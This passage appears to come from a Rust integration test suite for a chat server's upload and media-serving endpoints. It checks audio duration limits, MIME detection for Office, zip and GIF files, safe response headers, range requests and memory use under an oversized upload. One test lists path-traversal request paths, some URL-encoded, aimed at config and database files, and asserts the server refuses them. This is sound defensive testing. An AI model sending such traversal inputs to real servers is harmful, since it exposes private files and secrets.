    assert!(ogg["url"].as_str().unwrap().ends_with(".ogg"));
    assert!(ogg.get("thumbnail_url").is_none());
    let mpeg = upload(&app, &b1, "voice", "note.mp3", "audio/mpeg", mp3(125))
        .await
        .expect(201);
    assert_eq!(mpeg["duration_ms"], 3000);
    assert_eq!(mpeg["mime"], "audio/mpeg");
    // Over 60 s.
    let d = upload(
        &app,
        &b1,
        "voice",
        "long.ogg",
        "audio/ogg",
        ogg_opus(61_000),
    )
    .await
    .expect_error(422, "validation_error");
    assert!(d.contains("60"), "{d}");
    upload(&app, &b1, "voice", "long.mp3", "audio/mpeg", mp3(2_600))
        .await
        .expect_error(422, "validation_error");

    let conversation = app.open(&b1, "m1").await;
    let (mut ws, _) = app.ws_ready("m1", &m1).await;
    let sent = app
        .post(
            &b1,
            "/api/messages/",
            json!({"conversation_id": conversation, "message_type": "voice", "upload_id": ogg["upload_id"]}),
        )
        .await
        .expect(201);
    let pushed = ws.next_of_type("message").await;
    for m in [&sent, &pushed["message"]] {
        assert_eq!(m["message_type"], "voice");
        assert_eq!(m["duration_ms"], 3000);
        assert_eq!(m["content"], ogg["url"]);
        assert!(m["content"].as_str().unwrap().starts_with(BASE_URL));
    }
    // Served inline as audio.
    let res = app
        .client
        .get(local(&app, ogg["url"].as_str().unwrap()))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "audio/ogg");
    let cd = res.headers()["content-disposition"].to_str().unwrap();
    assert!(cd.starts_with("inline"), "{cd}");
}

#[actix_web::test]
async fn documents_upload_and_download_as_attachments() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let m1 = app.token("m1").await;
    let doc = upload(&app, &b1, "file", "report.pdf", "application/pdf", pdf())
        .await
        .expect(201);
    assert_eq!(doc["mime"], "application/pdf");
    assert_eq!(doc["file_name"], "report.pdf");
    assert_eq!(doc["file_size"], pdf().len());
    assert!(
        doc.get("width").is_none() && doc.get("thumbnail_url").is_none(),
        "{doc}"
    );
    let txt = upload(
        &app,
        &b1,
        "file",
        "读我.txt",
        "application/octet-stream",
        "你好, world\n".as_bytes().to_vec(),
    )
    .await
    .expect(201);
    assert_eq!(txt["mime"], "text/plain");
    assert!(txt["url"].as_str().unwrap().ends_with(".txt"));
    // Only images through the image endpoint.
    upload(&app, &b1, "image", "report.pdf", "image/png", pdf())
        .await
        .expect_error(415, "unsupported_media_type");

    let conversation = app.open(&b1, "m1").await;
    let (mut ws, _) = app.ws_ready("m1", &m1).await;
    let sent = app
        .post(
            &b1,
            "/api/messages/",
            json!({"conversation_id": conversation, "message_type": "file", "upload_id": doc["upload_id"]}),
        )
        .await
        .expect(201);
    let pushed = ws.next_of_type("message").await;
    for m in [&sent, &pushed["message"]] {
        assert_eq!(m["content"], doc["url"]);
        assert_eq!(m["file_name"], "report.pdf");
        assert_eq!(m["mime"], "application/pdf");
    }

    for (up, ty) in [
        (&doc, "application/pdf"),
        (&txt, "text/plain; charset=utf-8"),
    ] {
        let res = app
            .client
            .get(local(&app, up["url"].as_str().unwrap()))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let h = res.headers();
        assert_eq!(h["content-type"], ty);
        assert!(
            h["content-disposition"]
                .to_str()
                .unwrap()
                .starts_with("attachment"),
            "{h:?}"
        );
        assert_eq!(h["x-content-type-options"], "nosniff");
        if ty.starts_with("text/") {
            // 读我: the stored name keeps it, the header encodes it.
            let cd = h["content-disposition"].to_str().unwrap();
            assert!(cd.contains("filename*=UTF-8''%E8%AF%BB%E6%88%91_"), "{cd}");
        }
    }
}

#[actix_web::test]
async fn media_is_served_safely() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let bytes = png(40, 30);
    let up = upload(&app, &b1, "image", "p.png", "image/png", bytes.clone())
        .await
        .expect(201);
    let url = local(&app, up["url"].as_str().unwrap());

    let res = app.client.get(&url).send().await.unwrap();
    assert_eq!(res.status(), 200);
    let h = res.headers().clone();
    assert_eq!(h["content-type"], "image/png");
    assert!(h["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("inline"));
    assert_eq!(h["x-content-type-options"], "nosniff");
    let cache = h["cache-control"].to_str().unwrap();
    assert!(cache.contains("max-age=31536000"), "{cache}");
    assert!(h.contains_key("content-security-policy"));
    assert_eq!(res.bytes().await.unwrap().as_ref(), &bytes[..]);

    // Range.
    let res = app
        .client
        .get(&url)
        .header("Range", "bytes=8-23")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 206);
    assert_eq!(
        res.headers()["content-range"].to_str().unwrap(),
        format!("bytes 8-23/{}", bytes.len())
    );
    assert_eq!(res.bytes().await.unwrap().as_ref(), &bytes[8..24]);

    // Missing files are not cached; folders are not listed; the temporary
    // folder and anything outside the media folder are out of reach.
    let res = app
        .client
        .get(app.url("/media/uploads/nope.png"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 404);
    assert_eq!(res.headers()["cache-control"], "no-store");
    assert!(
        !res.text().await.unwrap().contains("<"),
        "never the web app's page"
    );
    std::fs::create_dir_all(app.media_dir.join(".tmp")).unwrap();
    std::fs::write(app.media_dir.join(".tmp/secret.part"), "secret").unwrap();
    for path in [
        "/media/",
        "/media/uploads/",
        "/media/.tmp/secret.part",
        "/media/../config/default.toml",
        "/media/%2e%2e/config/default.toml",
        "/media/%2E%2E/%2E%2E/Cargo.toml",
        "/media/..%2fconfig/default.toml",
        "/media/uploads/..%2F..%2Ftest.db",
        "/media/%2e%2e%5c..%5ctest.db",
    ] {
        let request =
            format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        let (status, text) = raw_http(&app, request.as_bytes()).await;
        assert!(
            status == 404 || status == 400,
            "{path} answered {status}: {text}"
        );
        assert!(
            !text.contains("jwt_secret")
                && !text.contains("secret\r\n")
                && !text.contains("SQLite"),
            "{path}: {text}"
        );
        assert!(!text.ends_with("secret"), "{path}: {text}");
    }
}

#[actix_web::test]
async fn upload_routes_are_documented() {
    let app = spawn_app().await;
    let doc = app
        .call(Method::GET, "/openapi.json", None, None)
        .await
        .expect(200);
    for kind in ["image", "file", "voice"] {
        let path = format!("/api/upload/{kind}");
        let post = &doc["paths"][&path]["post"];
        assert!(post.is_object(), "{path} missing");
        assert!(
            post["requestBody"]["content"]["multipart/form-data"].is_object(),
            "{post}"
        );
        assert!(post["responses"]["201"].is_object());
        assert!(post["responses"]["415"].is_object());
    }
    // Trailing slashes work here too.
    let b1 = app.token("b1").await;
    let res = app
        .client
        .post(app.url("/api/upload/image/"))
        .bearer_auth(&b1)
        .multipart(Form::new().part("file", Part::bytes(png(4, 4)).file_name("a.png")))
        .send()
        .await
        .unwrap();
    answer(res).await.expect(201);
}

#[actix_web::test]
async fn documents_are_recognised_by_their_structure() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let word: [u8; 16] = [6, 9, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
    for (name, bytes, mime, ext) in [
        (
            "a.docx",
            ooxml("word/document.xml"),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "docx",
        ),
        (
            "a.xlsx",
            ooxml("xl/workbook.xml"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "xlsx",
        ),
        (
            "a.pptx",
            ooxml("ppt/presentation.xml"),
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            "pptx",
        ),
        // A docx's parts without [Content_Types].xml is just a zip.
        (
            "a.docx",
            zip(&[("word/document.xml", b"<x/>")]),
            "application/zip",
            "zip",
        ),
        (
            "photos.zip",
            zip(&[("a.txt", b"hello"), ("b.txt", b"world")]),
            "application/zip",
            "zip",
        ),
        ("a.doc", ole(word, "Data"), "application/msword", "doc"),
        (
            "a.xls",
            ole([0; 16], "Workbook"),
            "application/vnd.ms-excel",
            "xls",
        ),
        (
            "a.ppt",
            ole([0; 16], "PowerPoint Document"),
            "application/vnd.ms-powerpoint",
            "ppt",
        ),
        ("anim.gif", gif(), "image/gif", "gif"),
    ] {
        let a = upload(&app, &b1, "file", name, "application/octet-stream", bytes).await;
        assert_eq!(a.status, 201, "{name}: {}", a.body);
        let up = a.body;
        assert_eq!(up["mime"], mime, "{name}");
        assert!(
            up["url"].as_str().unwrap().ends_with(&format!(".{ext}")),
            "{name}: {up}"
        );
    }
    let gif = upload(&app, &b1, "image", "anim.gif", "image/gif", gif())
        .await
        .expect(201);
    assert_eq!(
        (gif["width"].as_i64(), gif["height"].as_i64()),
        (Some(1), Some(1))
    );
    assert!(gif["thumbnail_url"].as_str().unwrap().contains("_thumb."));
    for bytes in [
        // A local header and nothing else: no central directory.
        b"PK\x03\x04\x14\0\0\0\0\0garbage".to_vec(),
        // A compound file of no Office kind (an installer, say).
        ole([0; 16], "Installer"),
    ] {
        upload(&app, &b1, "file", "x.zip", "application/zip", bytes)
            .await
            .expect_error(415, "unsupported_media_type");
    }
}

#[actix_web::test]
async fn webm_and_m4a_voice_notes() {
    let app = spawn_app().await;
    let b1 = app.token("b1").await;
    let with = upload(
        &app,
        &b1,
        "voice",
        "a.webm",
        "audio/webm",
        webm(Some(2500.0), 2),
    )
    .await
    .expect(201);
    assert_eq!(with["duration_ms"], 2500);
    assert_eq!(with["mime"], "audio/webm");
    let url = with["url"].as_str().unwrap();
    assert!(url.ends_with(".weba"), "{url}");
    // MediaRecorder leaves Duration out: the last block's time is used.
    let without = upload(&app, &b1, "voice", "b.webm", "audio/webm", webm(None, 2))
        .await
        .expect(201);
    assert_eq!(without["duration_ms"], 2480);
    let over = upload(
        &app,
        &b1,
        "voice",
        "c.webm",
        "audio/webm",
        webm(Some(75_000.0), 2),
    )
    .await;
    over.expect_error(422, "validation_error");
    upload(
        &app,
        &b1,
        "voice",
        "v.webm",
        "video/webm",
        webm(Some(2500.0), 1),
    )
    .await
    .expect_error(415, "unsupported_media_type");

    let m = upload(&app, &b1, "voice", "a.m4a", "audio/mp4", m4a(4000, b"soun"))
        .await
        .expect(201);
    assert_eq!(m["duration_ms"], 4000);
    assert_eq!(m["mime"], "audio/mp4");
    upload(
        &app,
        &b1,
        "voice",
        "b.m4a",
        "audio/mp4",
        m4a(90_000, b"soun"),
    )
    .await
    .expect_error(422, "validation_error");
    upload(&app, &b1, "voice", "v.mp4", "audio/mp4", m4a(4000, b"vide"))
        .await
        .expect_error(415, "unsupported_media_type");

    // Served as audio, inline.
    for (up, ty) in [(&with, "audio/webm"), (&m, "audio/mp4")] {
        let res = app
            .client
            .get(local(&app, up["url"].as_str().unwrap()))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], ty);
        assert!(res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("inline"));
    }
}

// ------------------------------------------------------------------ memory

/// Reads `VmRSS` and `VmHWM` (kB) of a process.
#[cfg(target_os = "linux")]
fn rss_kb(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap()
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// Kills the child server when the test ends, whatever happens.
struct Child(std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A multipart body of `size` bytes of file content, streamed in 64 KiB
/// chunks (the client never holds it whole).
const MEM_HEAD: &[u8] = b"--mem\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.txt\"\r\nContent-Type: text/plain\r\n\r\n";
const MEM_TAIL: &[u8] = b"\r\n--mem--\r\n";

fn streamed_body(size: usize) -> reqwest::Body {
    let (head, tail) = (MEM_HEAD.to_vec(), MEM_TAIL.to_vec());
    let chunk = vec![b'a'; 64 * 1024];
    let chunks = size.div_ceil(chunk.len());
    let body = (0..chunks).map(move |i| {
        let n = if i + 1 == chunks {
            size - i * chunk.len()
        } else {
            chunk.len()
        };
        Ok::<_, std::io::Error>(chunk[..n].to_vec())
    });
    let all = std::iter::once(Ok(head))
        .chain(body)
        .chain(std::iter::once(Ok(tail)));
    reqwest::Body::wrap_stream(futures_util::stream::iter(all))
}

/// A 50 MB upload against the 10 MB limit is refused while the server's
/// resident memory barely moves: the real `livechat-server` binary runs as
/// a child process and its `VmRSS` is read from `/proc` before and after,
/// once with a chunked body (the streaming limit stops it) and once with a
/// `Content-Length` (refused before reading). Figures: docs/benchmarks.md
/// (`cargo test -p livechat-server --test uploads a_50 -- --nocapture`
/// prints them; `LIVECHAT_SERVER_BIN` may name another build, e.g. release).
#[cfg(target_os = "linux")]
#[actix_web::test]
async fn a_50_mb_upload_is_refused_without_growing_memory() {
    use std::io::BufRead;

    const MB: usize = 1024 * 1024;
    let dir = tempfile::tempdir().unwrap();
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..");
    let bin = std::env::var("LIVECHAT_SERVER_BIN")
        .unwrap_or_else(|_| env!("CARGO_BIN_EXE_livechat-server").to_string());
    let mut child = Child(
        std::process::Command::new(&bin)
            .current_dir(&root)
            .env("LIVECHAT_ENV", "test")
            .env("HOST", "127.0.0.1")
            .env("PORT", "0")
            .env("DATABASE_URL", dir.path().join("mem.db"))
            .env("MEDIA_DIR", dir.path().join("media"))
            .env("SEED_DEMO", "true")
            .env("MAX_FILE_SIZE", (10 * MB).to_string())
            .env("LIVECHAT__SERVER__WORKERS", "2")
            .env("LIVECHAT__SERVER__STATIC_DIR", dir.path().join("no-dist"))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = child.0.id();
    let mut lines = std::io::BufReader::new(child.0.stdout.take().unwrap()).lines();
    let port: u16 = loop {
        let line = lines
            .next()
            .expect("the server printed its address")
            .unwrap();
        if let Some(rest) = line.split("listening on http://127.0.0.1:").nth(1) {
            break rest.split_whitespace().next().unwrap().parse().unwrap();
        }
    };
    let base = format!("http://127.0.0.1:{port}");
    let client = reqwest::Client::new();
    let token = client
        .post(format!("{base}/api/auth/session"))
        .json(&json!({"user_id": "b1"}))
        .send()
        .await
        .unwrap()
        .json::<Value>()
        .await
        .unwrap()["access_token"]
        .as_str()
        .unwrap()
        .to_string();
    let post = |body: reqwest::Body, length: Option<usize>| {
        let mut req = client
            .post(format!("{base}/api/upload/file"))
            .bearer_auth(&token)
            .header("Content-Type", "multipart/form-data; boundary=mem")
            .body(body);
        if let Some(l) = length {
            req = req.header("Content-Length", l.to_string());
        }
        req.send()
    };
    // Warm up: a few accepted uploads of 1 MB.
    for _ in 0..3 {
        let res = post(streamed_body(MB), None).await.unwrap();
        assert_eq!(res.status(), 201);
    }
    let before = rss_kb(pid);
    let res = post(streamed_body(50 * MB), None).await;
    let chunked = rss_kb(pid);
    let status = res.map(|r| r.status().as_u16());
    assert!(matches!(status, Ok(413) | Err(_)), "{status:?}");
    println!("chunked 50 MB: {status:?}");
    let total = 50 * MB + MEM_HEAD.len() + MEM_TAIL.len();
    let res = post(streamed_body(50 * MB), Some(total)).await;
    let declared = rss_kb(pid);
    let status = res.map(|r| r.status().as_u16());
    println!("Content-Length 50 MB: {status:?}");
    assert!(matches!(status, Ok(413) | Err(_)), "{status:?}");
    println!(
        "VmRSS before {} kB, after chunked {} kB (+{} kB), after Content-Length {} kB (+{} kB); VmHWM {} -> {} kB",
        before.0,
        chunked.0,
        chunked.0 as i64 - before.0 as i64,
        declared.0,
        declared.0 as i64 - before.0 as i64,
        before.1,
        declared.1
    );
    assert!(chunked.0 < before.0 + 5 * 1024, "RSS grew by over 5 MB");
    assert!(declared.0 < before.0 + 5 * 1024, "RSS grew by over 5 MB");
    assert!(
        declared.1 < before.1 + 5 * 1024,
        "peak RSS grew by over 5 MB"
    );
    // Nothing left behind.
    let files = files_under(&dir.path().join("media").join(".tmp"));
    assert!(files.is_empty(), "{files:?}");
}
